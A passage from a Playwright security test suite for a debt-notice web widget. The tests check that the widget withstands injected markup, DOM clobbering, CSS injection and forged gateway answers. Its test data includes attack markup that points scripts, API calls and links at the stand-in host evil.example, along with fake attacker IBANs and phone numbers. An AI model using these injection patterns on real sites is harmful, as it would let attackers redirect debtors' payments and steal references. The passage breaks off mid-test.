import { readFileSync } from "node:fs";
import { decode } from "bysquare/pay";
import type { Browser, BrowserContext, Page, Request } from "playwright-core";
import { describe, expect, it } from "vitest";
import { DEMO_CONFIG, demoConfigScript } from "../../demo/demo-config.mjs";
import { buildPaymentOrder, encodePayBySquare } from "../../src/domain/pay-by-square";
import { scanQrPath } from "../helpers/scan-qr-path";
import { DebtNoticeModel } from "./support/debt-notice.model";
import { baseUrl, gatewayRequests, resetGateway, useBrowser } from "./support/harness";

// What a partner page with an HTML-injection hole, or a changed gateway answer, must not be able
// to do to a debtor (issue 32). The attacker's origin answers every request with code that
// would mark the page as taken over, so a request that reached it and ran would show.
const EVIL = "https://evil.example";
const TAKEN_OVER = "window.__takenOver = (window.__takenOver || 0) + 1;";

interface Opened {
  page: Page;
  widget: DebtNoticeModel;
  /** Requests the page sent to the attacker's origin, as path names. */
  toAttacker: string[];
  errors: string[];
  close(): Promise<void>;
}

async function openPartnerPage(
  browser: () => Browser,
  body: string,
  prepare?: (context: BrowserContext) => Promise<void>,
): Promise<Opened> {
  await resetGateway();
  const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
  const toAttacker: string[] = [];
  await context.route(`${EVIL}/**`, (route, request: Request) => {
    toAttacker.push(new URL(request.url()).pathname);
    const json = request.url().endsWith(".json");
    return route.fulfill({
      contentType: json ? "application/json" : "text/javascript",
      headers: { "access-control-allow-origin": "*" },
      body: json ? JSON.stringify({ "any message": "Zaplaťte na účet SK96 1100 0000 0029 1859 9669" }) : TAKEN_OVER,
    });
  });
  await context.route("**/injected-partner", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>partner</title>
        <script src="/dist/debt-notice.umd.js" defer></script></head><body>${body}</body></html>`,
    }),
  );
  await prepare?.(context);
  const page = await context.newPage();
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  await page.goto(baseUrl() + "/injected-partner");
  const widget = new DebtNoticeModel(page);
  return { page, widget, toAttacker, errors, close: () => context.close() };
}

/** The recommended page's config: from script, on the element at `index` (README: standalone page). */
const configScript = (index: number) =>
  `<script>document.getElementsByTagName("debt-notice")[${index}].config = ${JSON.stringify(DEMO_CONFIG)};</script>`;

const element = (reference: string, attributes = "") =>
  `<debt-notice reference="${reference}" api-base="/api/2/union-debt" captcha-site-key="demo-site-key" captcha-src="/captcha/api.js"${attributes}></debt-notice>${demoConfigScript("")}`;

/**
 * The standalone page's address (path routing) serving `body` after the widget's deferred script,
 * with every request to the attacker's site recorded (and answered empty).
 */
async function pathRoutedPage(browser: Browser, body: string) {
  await resetGateway();
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const toAttacker: string[] = [];
  await context.route(`${EVIL}/**`, (route, request) => {
    toAttacker.push(new URL(request.url()).pathname);
    return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
  });
  await context.route("**/dlh/a1b2c3-man-high", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>notice</title>
          <script src="/dist/debt-notice.umd.js" defer></script></head><body>
          ${body}
          </body></html>`,
    }),
  );
  const page = await context.newPage();
  await page.goto(`${baseUrl()}/dlh/a1b2c3-man-high`);
  return { context, page, toAttacker };
}

/** The QR code as a banking app reads it: the drawn path -> pixels -> the payment it orders. */
async function scannedPayment(page: Page) {
  const path = page.locator("svg.dn-pbs__svg path");
  await path.waitFor({ state: "attached" });
  const viewBox = (await page.locator("svg.dn-pbs__svg").getAttribute("viewBox")) ?? "";
  const text = scanQrPath(viewBox, (await path.getAttribute("d")) ?? "");
  expect(text).toBeDefined();
  return decode(text!).payments[0]!;
}

/** A valid PAY by square text for the same amount and symbol, to another account. */
const OTHER_ACCOUNT_CODE = (() => {
  const order = buildPaymentOrder({
    amountCents: 115075,
    iban: "SK9611000000002918599669",
    bic: "",
    beneficiaryName: DEMO_CONFIG.payee.beneficiaryName,
    variableSymbol: "",
    specificSymbol: "",
    constantSymbol: "",
    note: "",
  });
  if (!order.ok) throw new Error("invalid fixture");
  return encodePayBySquare(order.order);
})();

describe("security: what injected markup and changed answers cannot do", () => {
  // A partner page on localhost calling the gateway on 127.0.0.1 (another origin on this machine):
  // Chromium's Local Network Access checks would refuse those calls whatever the widget does.
  const browser = useBrowser(["--disable-features=LocalNetworkAccessChecks"]);

  // The eleventh trial: markup injected on a partner page hid the real widget (an unclosed "<!--")
  // and added its own element with the page's reference and a JSON child naming another account
  // and phone; with a gateway that sends no payee the real name and amount stood beside the
  // attacker's IBAN, its QR code and its phone (with one that does, beside the phone). Markup
  // cannot be told from the page's own: the widget takes no config from it, with or without payee.
  const attackerIban = "SK8975000000000012345671";
  const attackersElement = `<debt-notice reference="a1b2c3-man-high" api-base="/api/2/union-debt"><script type="application/json">{"phone":"0900 666 666","payee":{"iban":"${attackerIban}","beneficiaryName":"Platby s.r.o."}}</script></debt-notice>`;
  it.each([
    ["a gateway that sends no payee", false],
    ["a gateway that names the payee", true],
  ])(
    "markup that hides the real widget behind its own, with a JSON child, on %s: no account, QR code or phone of its own",
    async (_name, gatewayNamesPayee) => {
      const { page, widget, errors, close } = await openPartnerPage(
        browser,
        `${attackersElement}<!--${element("a1b2c3-man-high")}`,
        async (context) => {
          if (!gatewayNamesPayee) return;
          await context.route("**/api/2/union-debt/getDetails", async (route) => {
            const answer = await route.fetch();
            const body = (await answer.json()) as { entities: Record<string, unknown> };
            body.entities.payee = DEMO_CONFIG.payee;
            await route.fulfill({ response: answer, json: body });
          });
        },
      );
      await widget.ready();
      // The whole notice is there (down to the privacy note), with nothing of the markup's in it.
      await expect.poll(() => widget.root.innerText()).toMatch(/osobné\s+údaje\s+spracúvame/);
      expect(await widget.host.locator("[part~='pay-by-square']").count()).toBe(0);
      const shown = (await widget.root.innerText()).replace(/\s+/g, "");
      for (const attackers of [attackerIban, "Platbys.r.o.", "0900666666"]) expect(shown).not.toContain(attackers);
      expect(await page.locator("debt-notice").count()).toBe(1);
      expect(errors).toEqual([]);
      await close();
    },
  );

  // The twelfth trial: the README's config file selected the element with
  // document.querySelector("debt-notice"). Markup injected before the element took the config
  // away from it (an element of its own, or <form name="querySelector">, which makes the call
  // throw): the real widget ran without paymentOrigins, and a changed answer's payment link to
  // another site became its Pay button. The README's snippet itself is served and run here.
  const readmeConfigFile = (() => {
    const readme = readFileSync(new URL("../../README.md", import.meta.url), "utf8");
    const block = /with `debt-notice-config\.js`[\s\S]*?\n\n```js\n([\s\S]*?)```/.exec(readme)?.[1];
    if (!block) throw new Error("README: the debt-notice-config.js snippet is gone");
    return block;
  })();
  it.each([
    [
      "an element of its own before the real one",
      `<debt-notice routing="memory" reference="a1b2c3-man-high" api-base="${EVIL}/api"></debt-notice>`,
    ],
    [
      '<form name="querySelector"> and <form name="getElementsByTagName">',
      '<form name="querySelector"></form><form name="getElementsByTagName"></form>',
    ],
  ])(
    "the README's config file after the element, with %s injected first: the payment origins still hold",
    async (_name, injected) => {
      const { page, errors, close } = await openPartnerPage(
        browser,
        `${injected}<debt-notice reference="a1b2c3-man-high" api-base="/api/2/union-debt"></debt-notice><script src="/debt-notice-config.js"></script>`,
        async (context) => {
          await context.route("**/debt-notice-config.js", (route) =>
            route.fulfill({ contentType: "text/javascript", body: readmeConfigFile }),
          );
          await context.route("**/api/2/union-debt/getDetails", async (route) => {
            const answer = await route.fetch();
            const body = (await answer.json()) as { entities: Record<string, unknown> };
            body.entities.paymeUrl = `${EVIL}/pay`;
            await route.fulfill({ response: answer, json: body });
          });
        },
      );
      const real = new DebtNoticeModel(page, 'debt-notice[reference="a1b2c3-man-high"]');
      await real.ready();
      await expect.poll(() => real.root.innerText()).toContain("Platba online momentálne nie je dostupná");
      expect(await real.payLink.count()).toBe(0);
      // The README's config reached the page's own element: its phone is there.
      expect((await real.root.innerText()).replace(/\s+/g, "")).toContain("0800100200");
      expect(errors).toEqual([]);
      await close();
    },
  );

  // The seventeenth trial: under script-src 'self', markup loaded the page's own config script
  // again right after an element of its own, naming another debtor: that one showed with the
  // page's account, phone and payment origins (the money credited to another debt), the real one
  // hidden in a <div hidden>. One page, one debtor: neither shows, and no notice is asked for.
  it("markup that loads the page's config script again after an element naming another debtor: neither shows", async () => {
    const { page, errors, close } = await openPartnerPage(
      browser,
      `<debt-notice routing="memory" reference="d4e5f6-woman-low" api-base="/api/2/union-debt"></debt-notice>${demoConfigScript("")}<div hidden>${element("a1b2c3-man-high", ' routing="memory"')}</div>`,
    );
    await page.waitForFunction(() => [...document.querySelectorAll("debt-notice")].every((el) => el.hidden));
    await page.waitForTimeout(300);
    expect(
      await page.evaluate(() =>
        [...document.querySelectorAll("debt-notice")].map((el) => el.shadowRoot?.childElementCount ?? 0),
      ),
    ).toEqual([0, 0]);
    expect((await gatewayRequests()).filter((request) => request.call === "getDetails")).toEqual([]);
    expect(await page.locator("body").innerText()).not.toContain("Mária");
    expect(errors).toEqual([]);
    await close();
  });

  // The eighteenth trial: <img name="readyState"> made document.readyState lie, so the widget
  // decided which element is the page's before the page was parsed, and a copy of its script that
  // markup loaded (script-src 'self') set up the attacker's element with the page's config.
  it("a clobbered readyState and a copy of the script loaded by markup: still neither debtor shows", async () => {
    const { page, errors, close } = await openPartnerPage(
      browser,
      `<img name="readyState"><script src="/dist/debt-notice.umd.js"></script><debt-notice routing="memory" reference="d4e5f6-woman-low" api-base="/api/2/union-debt"></debt-notice>${demoConfigScript("")}${element("a1b2c3-man-high", ' routing="memory"')}`,
    );
    await page.waitForFunction(() => [...document.querySelectorAll("debt-notice")].every((el) => el.hidden));
    await page.waitForTimeout(300);
    const details = (await gatewayRequests()).filter((request) => request.call === "getDetails");
    expect(details.map((request) => (request.body as { reference?: string }).reference)).not.toContain(
      "d4e5f6-woman-low",
    );
    expect(await page.locator("body").innerText()).not.toContain("Mária");
    expect(errors).toEqual([]);
    await close();
  });

  // The eighteenth trial: an <iframe srcdoc> is a page markup writes whole; the config file loaded
  // again inside it showed another debtor with the page's account, out of the one-debtor rule's sight.
  it("a srcdoc frame with the widget and the page's config file: the frame's widget stays empty", async () => {
    const base = baseUrl();
    const frame = `<script src='${base}/dist/debt-notice.umd.js' defer></script><debt-notice routing='memory' reference='d4e5f6-woman-low' api-base='${base}/api/2/union-debt'></debt-notice><script src='${base}/demo/config.js'></script>`;
    const { page, errors, close } = await openPartnerPage(
      browser,
      `<iframe width="1200" height="1400" srcdoc="${frame}"></iframe><div hidden>${element("a1b2c3-man-high", ' routing="memory"')}</div>`,
    );
    const inFrame = page.frameLocator("iframe").locator("debt-notice");
    await expect.poll(() => inFrame.evaluate((el) => (el as HTMLElement).hidden), { timeout: 15_000 }).toBe(true);
    await page.waitForTimeout(300);
    expect(await inFrame.evaluate((el) => el.shadowRoot?.childElementCount ?? 0)).toBe(0);
    const details = (await gatewayRequests()).filter((request) => request.call === "getDetails");
    expect(details.map((request) => (request.body as { reference?: string }).reference)).not.toContain(
      "d4e5f6-woman-low",
    );
    expect(errors).toEqual([]);
    await close();
  });

  // The eighteenth trial: <img name="defaultView"> made the widget throw (React reads the document's
  // own properties) and left a blank box with nothing said. It stays empty now, and says why.
  it.each(["defaultView"])(
    '<img name="%s"> before the element: the widget stays empty and says why, nothing throws',
    async (name) => {
      const { page, errors, close } = await openPartnerPage(
        browser,
        `<img name="${name}">${element("a1b2c3-man-high", ' routing="memory"')}`,
        async (context) => {
          await context.addInitScript(() => {
            const said: string[] = [];
            (window as unknown as { __said: string[] }).__said = said;
            const warn = console.warn.bind(console);
            console.warn = (...args: unknown[]) => {
              said.push(args.map(String).join(" "));
              warn(...args);
            };
          });
        },
      );
      const host = page.locator("debt-notice");
      await expect.poll(() => host.evaluate((el) => (el as HTMLElement).hidden)).toBe(true);
      expect(await host.evaluate((el) => el.shadowRoot?.childElementCount ?? 0)).toBe(0);
      const said = await page.evaluate(() => (window as unknown as { __said: string[] }).__said);
      expect(said.filter((line) => line.includes(`shadows document.${name}`))).toHaveLength(1);
      expect(errors).toEqual([]);
      await close();
    },
  );

  // The seventeenth trial: an unclosed <a href> injected before the element wrapped the widget, and
  // a tap on the amount, the account number or the QR code opened the attacker's page.
  it.each([
    ["an unclosed link", `<a href="${EVIL}/fake-pay">`],
    ["an unclosed label", "<label>"],
    // The eighteenth trial: an SVG link (xlink:href) whose foreignObject holds the widget.
    [
      "an unclosed SVG link",
      `<svg width="1280" height="4000"><a xlink:href="${EVIL}/steal"><foreignObject width="1280" height="4000">`,
    ],
  ])("%s injected before the element: the widget stays empty, so no tap on it goes there", async (_name, injected) => {
    const { page, toAttacker, errors, close } = await openPartnerPage(
      browser,
      `${injected}${element("a1b2c3-man-high")}`,
    );
    const host = page.locator("debt-notice");
    await expect.poll(() => host.evaluate((el) => (el as HTMLElement).hidden)).toBe(true);
    await page.waitForTimeout(300);
    expect(await host.evaluate((el) => el.shadowRoot?.childElementCount ?? 0)).toBe(0);
    expect(toAttacker).toEqual([]);
    expect(errors).toEqual([]);
    await close();
  });

  // The thirteenth trial: CSS injected on a partner page (no style-src) used the published parts to
  // hide the amount and the phone and write "11,50 €" and another phone in their place, inside the
  // widget's own boxes. Parts can be restyled, not written into.
  it("CSS injected on the partner page cannot write text or pictures into the widget's parts", async () => {
    const fake = `content: "Suma na úhradu 11,50 € · Telefón 0900 666 666" !important; visibility: visible !important;`;
    const picture = `url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Ctext y='20'%3E11,50 €%3C/text%3E%3C/svg%3E")`;
    const style = `<style>
      debt-notice::part(amount), debt-notice::part(contacts) { visibility: hidden; }
      debt-notice::part(amount)::before, debt-notice::part(contacts)::after, debt-notice::part(summary)::marker { ${fake} }
      debt-notice::part(root)::before { ${fake} position: fixed; inset: 0; z-index: 9; }
      debt-notice::part(summary) { background-image: ${picture} !important; border-image-source: ${picture} !important; list-style-image: ${picture} !important; }
    </style>`;
    const { widget, errors, close } = await openPartnerPage(browser, style + element("a1b2c3-man-high"));
    await widget.ready();
    await expect.poll(() => widget.host.locator("[part~='contacts']").count()).toBe(1);
    const written = await widget.host.evaluate((host) =>
      Array.from(host.shadowRoot?.querySelectorAll("[part]") ?? []).flatMap((part) => {
        const name = part.getAttribute("part");
        const seen = [
          ...["::before", "::after", "::marker"].map((pseudo) => [pseudo, getComputedStyle(part, pseudo).content]),
          ...["backgroundImage", "borderImageSource", "listStyleImage"].map((property) => [
            property,
            getComputedStyle(part).getPropertyValue(property.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`)),
          ]),
        ];
        return seen.filter(([, value]) => value !== "none" && value !== "normal").map(([what]) => `${name} ${what}`);
      }),
    );
    expect(written).toEqual([]);
    expect(errors).toEqual([]);
    await close();
  });

  // The tenth trial: markup injected on a partner page, copying its reference, with a JSON child of
  // its own, showed the real debtor's name and amount beside the attacker's phone.
  it.each([
    ["before the real widget", (real: string) => attackersElement + real],
    ["after the real widget", (real: string) => real + attackersElement],
  ])("a twin for the partner page's own debtor %s: no element shows the JSON child's phone", async (_name, layout) => {
    const { page, errors, close } = await openPartnerPage(browser, layout(element("a1b2c3-man-high")));
    const texts = () =>
      page.evaluate(() =>
        Array.from(document.querySelectorAll("debt-notice")).map((el) => el.shadowRoot?.textContent ?? ""),
      );
    // The page's own element, the one its script gave the config, shows the debtor with the page's
    // phone; the twin, without a config, stays empty (the fifteenth trial).
    await expect
      .poll(async () => (await texts()).filter((text) => text.replace(/\s+/g, "").includes("0800100200")).length)
      .toBe(1);
    expect((await texts()).filter((text) => text.includes("Novák"))).toHaveLength(1);
    for (const text of await texts()) {
      expect(text.replace(/\s+/g, "")).not.toContain("0900666666");
      expect(text.replace(/\s+/g, "")).not.toContain(attackerIban);
    }
    for (const text of await texts()) expect(text.replace(/\s+/g, "")).not.toContain("0900666666");
    expect(errors).toEqual([]);
    await close();
  });

  // Item 1. Markup such as <img name="currentScript"> shadows document.currentScript (DOM
  // clobbering); the UMD read its sibling files' folder from it and imported the attacker's
  // debt-notice.qr.js as a module, and fetched its catalogs from there.
  it.each([
    ["<img name=currentScript>", `<img name="currentScript" src="${EVIL}/x/a.js" alt="">`],
    [
      "<form name=currentScript data-src>",
      `<form name="currentScript" data-src="${EVIL}/x/debt-notice.preload.js"></form>`,
    ],
    ["<base href> after the widget's script", `<base href="${EVIL}/x/">`],
  ])(
    "%s on the partner page: nothing of the widget's is asked from the attacker, the QR code and the Ukrainian texts still come",
    async (_name, markup) => {
      const { page, widget, toAttacker, errors, close } = await openPartnerPage(
        browser,
        `${markup}${element("d6e5f4-ukrainian")}`,
      );
      await widget.ready("uk");
      const payment = await scannedPayment(page);
      expect(payment.bankAccounts[0]!.iban).toBe(DEMO_CONFIG.payee.iban);
      // The Ukrainian catalog came from beside the real script, not the attacker's JSON.
      expect(await widget.host.locator("[part~='pay-by-square']").innerText()).not.toContain("SK96");
      expect(await widget.host.locator("h1").innerText()).toMatch(/[а-яіїє]/i);
      // The captcha script is loaded on Send: from the page's own origin, whatever <base> says.
      await widget.commentField.fill("Це не мій борг.");
      await widget.host.locator("form button[type='submit']").click();
      await expect.poll(() => widget.screen()).toBe("infoProvided");
      expect(toAttacker.filter((path) => !path.endsWith("/x/a.js"))).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __takenOver?: number }).__takenOver)).toBeUndefined();
      expect(errors).toEqual([]);
      await close();
    },
  );

  // Item 1, the same hole in a second place: a <debt-notice> that injected markup adds, with a
  // captcha-src of the attacker's, would load their script when the debtor sends.
  it("an injected <debt-notice> cannot point captcha-src at another site: it is ignored, with one warning", async () => {
    const warnings: string[] = [];
    const { page, widget, toAttacker, close } = await openPartnerPage(
      browser,
      element("a1b2c3-man-high").replace('captcha-src="/captcha/api.js"', `captcha-src="${EVIL}/recaptcha.js"`),
      async (context) => {
        context.on("console", (message) => {
          if (message.type() === "warning") warnings.push(message.text());
        });
        // Offline here: Google's script fails at once instead of after its 10 s limit.
        await context.route("https://www.google.com/**", (route) => route.abort());
      },
    );
    await widget.ready();
    expect(warnings.filter((text) => text.includes("captcha-src"))).toHaveLength(1);
    await widget.commentField.fill("Toto nie je môj dlh.");
    await widget.host.locator("form button[type='submit']").click();
    // Google's default script for the key is what it then asks for (unreachable here).
    await expect.poll(() => widget.host.locator("form").innerText()).toMatch(/robot/i);
    expect(toAttacker).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __takenOver?: number }).__takenOver)).toBeUndefined();
    await close();
  });

  // The sibling files are checked against this build's digests: a file changed on the way (a
  // compromised CDN or proxy) is not used.
  it("a changed debt-notice.qr.js or catalog is refused: no code runs, the text stays, the page says so calmly", async () => {
    const { page, widget, close } = await openPartnerPage(browser, element("d6e5f4-ukrainian"), async (context) => {
      await context.route("**/dist/debt-notice.qr.js", (route) =>
        route.fulfill({
          contentType: "text/javascript",
          body: `${TAKEN_OVER} export const payBySquareSymbol = () => null;`,
        }),
      );
      await context.route("**/dist/debt-notice.ua.json", (route) =>
        route.fulfill({ contentType: "application/json", body: JSON.stringify({ x: "changed" }) }),
      );
    });
    await widget.ready();
    const section = widget.host.locator("[part~='pay-by-square']");
    // No Ukrainian catalog: the page stays in Slovak and says so.
    await expect.poll(() => section.innerText()).toContain("QR kód sa nepodarilo načítať.");
    expect(await section.innerText()).toContain("SK31 1200 0000 1987 4263 7541");
    expect(await page.evaluate(() => (window as unknown as { __takenOver?: number }).__takenOver)).toBeUndefined();
    await close();
  });

  // Item 2. A payBySquare string in the answer used to win for the QR code while the page
  // printed the host's IBAN beside it.
  it("a gateway answer with a payBySquare for another account: the QR code pays exactly the account, amount and symbol shown", async () => {
    const { page, widget, close } = await openPartnerPage(browser, element("a1b2c3-man-high"), async (context) => {
      await context.route("**/api/2/union-debt/getDetails", async (route) => {
        const answer = await route.fetch();
        const body = (await answer.json()) as { entities: Record<string, unknown> };
        body.entities.payBySquare = OTHER_ACCOUNT_CODE;
        await route.fulfill({ response: answer, json: body });
      });
    });
    await widget.ready();
    const payment = await scannedPayment(page);
    const shown = await widget.host.locator("[part~='pay-by-square']").innerText();
    expect(shown).toContain("SK31 1200 0000 1987 4263 7541");
    expect(payment.bankAccounts[0]!.iban).toBe("SK3112000000198742637541");
    expect(payment.amount).toBe(1150.75);
    expect(shown).toContain(payment.variableSymbol!);
    await close();
  });

  // Item 3. ~150,000 periods (~3 MB) overflowed the chart's Math.max and blanked the whole
  // widget; 100,000 froze the page for 12 s.
  it("a 3 MB answer of 150,000 periods: refused calmly, with Try again and the contacts, nothing blank", async () => {
    const periods = Array.from({ length: 150_000 }, (_, i) => ({
      obdobie: `${String((i % 12) + 1).padStart(2, "0")}/${1900 + Math.floor(i / 12)}`,
      dlh: "-1,00",
    }));
    const { widget, errors, close } = await openPartnerPage(browser, element("a1b2c3-man-high"), async (context) => {
      await context.route("**/api/2/union-debt/getDetails", async (route) => {
        const answer = await route.fetch();
        const body = (await answer.json()) as { entities: Record<string, unknown> };
        body.entities.totalDebt = JSON.stringify(periods);
        await route.fulfill({ response: answer, json: body });
      });
    });
    await widget.root.and(widget.page.locator("[data-screen='notFound']")).waitFor();
    const view = widget.host.locator("[part~='view']");
    expect(await view.innerText()).toMatch(/nepodarilo načítať/);
    expect(await view.getByRole("button", { name: "Skúsiť znova" }).count()).toBe(1);
    expect(await widget.host.locator("[part~='contacts']").innerText()).toContain("0800 100 200");
    expect(errors).toEqual([]);
    await close();
  });

  it("a history longer than 1,200 periods (but under the size limit): the breakdown is called unavailable, the rest stands", async () => {
    const periods = Array.from({ length: 1_500 }, () => ({ obdobie: "01/2025", dlh: "-1,00" }));
    const { widget, errors, close } = await openPartnerPage(browser, element("a1b2c3-man-high"), async (context) => {
      await context.route("**/api/2/union-debt/getDetails", async (route) => {
        const answer = await route.fetch();
        const body = (await answer.json()) as { entities: Record<string, unknown> };
        body.entities.totalDebt = JSON.stringify(periods);
        await route.fulfill({ response: answer, json: body });
      });
    });
    await widget.ready();
    await widget.host.getByRole("button", { name: /celkový nedoplatok/i }).click();
    await widget.root.and(widget.page.locator("[data-screen='totalDebt']")).waitFor();
    expect(await widget.host.locator("[part~='view']").innerText()).toContain("Prehľad podľa období");
    expect(await widget.host.locator("table").count()).toBe(0);
    expect(await widget.host.locator("[part~='contacts']").count()).toBe(1);
    expect(errors).toEqual([]);
    await close();
  });

  // Item 4. The demo's instalment link carried the reference (a credential) in its query,
  // into the calendar site's logs and its Referers.
  it("the demo's instalment link carries the reference in its fragment: no server and no Referer gets it", async () => {
    const { widget, close } = await openPartnerPage(browser, element("a1b2c3-man-high"));
    await widget.ready();
    const href = await widget.host.locator("[part~='calendar'] a").getAttribute("href");
    const url = new URL(href!);
    expect(url.search).toBe("");
    expect(url.pathname).not.toContain("a1b2c3");
    expect(url.hash).toBe("#ref=a1b2c3-man-high");
    await close();
  });

  // Item 5. The standalone page with the headers docs/security.md asks for: it works under them
  // (the inline style and preload script by their hashes) and no other site can frame it.
  it("the standalone page: served with the recommended headers, it works under them and cannot be framed", async () => {
    await resetGateway();
    const response = await fetch(`${baseUrl()}/d6e5f4-ukrainian`);
    const policy = response.headers.get("content-security-policy") ?? "";
    for (const directive of ["base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'", "form-action 'none'"])
      expect(policy).toContain(directive);
    expect(policy).not.toContain("unsafe-inline");
    expect(response.headers.get("x-frame-options")).toBe("DENY");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("referrer-policy")).toBe("no-referrer");

    const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
    await context.addInitScript(() => {
      (window as unknown as { __violations: string[] }).__violations = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        (window as unknown as { __violations: string[] }).__violations.push(
          `${event.effectiveDirective} ${event.blockedURI}`,
        ),
      );
    });
    const page = await context.newPage();
    await page.goto(`${baseUrl()}/d6e5f4-ukrainian`);
    const widget = new DebtNoticeModel(page);
    await widget.ready("uk");
    await page.locator("svg.dn-pbs__svg path").waitFor({ state: "attached" });
    await widget.languageChooser.selectOption("sk");
    await widget.ready("sk");
    await widget.commentField.fill("Toto nie je môj dlh.");
    expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);

    await context.route("https://framer.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${baseUrl()}/a1b2c3-man-high"></iframe>` }),
    );
    const framer = await context.newPage();
    await framer.goto("https://framer.example/");
    await framer.waitForLoadState("load");
    const framed = framer.frames().find((frame) => frame !== framer.mainFrame());
    expect(
      await framed
        ?.locator("debt-notice")
        .count()
        .catch(() => 0),
    ).toBe(0);
    await context.close();
  });

  // The fresh review's first finding: markup injected beside the real widget added a second
  // <debt-notice> that sent the reference from the page's address to its own gateway, or showed
  // the debtor's name and amount with an IBAN of its own.
  it("markup injected beside a path-routed widget: no request to another gateway, no IBAN of the attacker's, the page's own widget shows", async () => {
    const fakePayee = `<script type="application/json">{"payee":{"iban":"SK6807200002891987426353","beneficiaryName":"Platby s.r.o."}}</script>`;
    const { context, page, toAttacker } = await pathRoutedPage(
      browser(),
      `<debt-notice routing="path" base-path="/dlh/" api-base="${EVIL}/api" style="display:none"></debt-notice>
          <debt-notice routing="path" base-path="/dlh/">${fakePayee}</debt-notice>
          <debt-notice routing="path" base-path="/dlh/"></debt-notice>${configScript(2)}`,
    );
    // The page's own element is the one its script gave the config (the third): it shows the
    // debtor with the page's account; the injected ones, without config, stay empty.
    const texts = () =>
      page
        .locator("debt-notice")
        .evaluateAll((all) => all.map((el) => (el.shadowRoot?.textContent ?? "").replace(/\s+/g, "")));
    await expect.poll(async () => (await texts())[2] ?? "", { timeout: 15_000 }).toContain(DEMO_CONFIG.payee.iban);
    const [first, second, own] = await texts();
    expect([first, second]).toEqual(["", ""]);
    expect(own).not.toContain("SK6807200002891987426353");
    expect(toAttacker).toEqual([]);
    await context.close();
  });

  // The fourth review's finding: a <base> to the attacker's site and an <img> of the widget's own
  // path made the based URL "fetched", so the UMD took the attacker's origin for its own: an
  // api-base there was allowed without listing, and the reference went to it.
  it("a <base> and an <img> of the script's path cannot make the attacker's origin the script's", async () => {
    const { context, page, toAttacker } = await pathRoutedPage(
      browser(),
      `<base href="${EVIL}/"><img src="/dist/debt-notice.umd.js" alt="">
          <debt-notice routing="path" base-path="/dlh/" api-base="${EVIL}/api"></debt-notice><!--
          <debt-notice routing="path" base-path="/dlh/"></debt-notice>${configScript(1)}`,
    );
    await page.evaluate(() => customElements.whenDefined("debt-notice"));
    await expect
      .poll(() =>
        page
          .locator("debt-notice")
          .first()
          .evaluate((el) => el.shadowRoot?.querySelector("h1")?.textContent ?? ""),
      )
      .toBe("Vaše upozornenie na nedoplatok sa na tejto stránke nedá zobraziť");
    // Only the <img> itself went there: no gateway call, no catalog, no QR module. The refused
    // api-base sends no call to the page's own gateway either.
    expect(toAttacker).toEqual(["/dist/debt-notice.umd.js"]);
    await context.close();
  });

  // The second review's finding: markup that swallows the rest of the page (an unclosed "<!--")
  // and brings a path-routed element of its own, or one parsed before the real one when the
  // widget's script is not deferred, showed this debtor with the attacker's IBAN and phone.
  const attackers = (attributes: string) =>
    `<debt-notice ${attributes} base-path="/dlh/"><script type="application/json">{"phone":"0900 666 666","payee":{"iban":"SK6807200002891987426353","beneficiaryName":"Platby s.r.o."}}</script></debt-notice>`;
  // What each page shows: the debtor without any account (no config reached the element that
  // shows them: the page's own element is gone, swallowed by the injection), nothing at all, or
  // the host's own account (the page's element, configured by its script, beside an injected one
  // without config: that one stays empty, the fifteenth trial).
  const layouts = [
    {
      name: "instead of the real one (an unclosed <!-- hides it)",
      defer: true,
      before: `${attackers('routing="path"')}<!--`,
      after: "",
      shows: "no account",
    },
    {
      name: "before the real one (the widget's script not deferred)",
      defer: false,
      before: attackers('routing="path"'),
      after: "",
      shows: "host's account",
    },
    // The third review's finding: attributes that mount() reads as path routing, the element's own check did not.
    {
      name: 'after the real one, as <debt-notice reference="">',
      defer: true,
      before: "",
      after: attackers('reference=""'),
      shows: "host's account",
    },
    {
      name: "before the real one, as <debt-notice routing> (an unclosed <template> hides the real one)",
      defer: true,
      before: `${attackers("routing")}<template>`,
      after: "",
      shows: "no account",
    },
    // The sixth trial: an element with another debtor's own reference, no JSON child; a config set
    // as the page's first <debt-notice> went to it. That debtor's notice with the host's account and
    // their symbols, at this debtor's address: paying it settles someone else's debt.
    {
      name: "before the real one, with another debtor's reference of its own",
      defer: true,
      before: '<debt-notice reference="d4e5f6-woman-low"></debt-notice>',
      after: "",
      shows: "host's account",
    },
    // The control: the same page without the injection shows the host's account, so the absence
    // of the attacker's below is not an empty notice.
    { name: "nowhere (the control)", defer: true, before: "", after: "", shows: "host's account" },
  ] as const;
  for (const layout of layouts) {
    it(`a <debt-notice> injected ${layout.name}: the debtor is never shown the attacker's IBAN or phone`, async () => {
      await resetGateway();
      const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
      await context.route("**/dlh/a1b2c3-man-high*", (route) =>
        route.fulfill({
          contentType: "text/html",
          body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>notice</title>
            <script src="/dist/debt-notice.umd.js"${layout.defer ? " defer" : ""}></script></head><body>
            <p>${layout.before}</p>
            <debt-notice id="notice" routing="path" base-path="/dlh/"></debt-notice>
            <script>document.getElementById("notice").config = ${JSON.stringify(DEMO_CONFIG)};</script>
            <p>${layout.after}</p>
            </body></html>`,
        }),
      );
      const page = await context.newPage();
      await page.goto(`${baseUrl()}/dlh/a1b2c3-man-high`);
      const shown = () =>
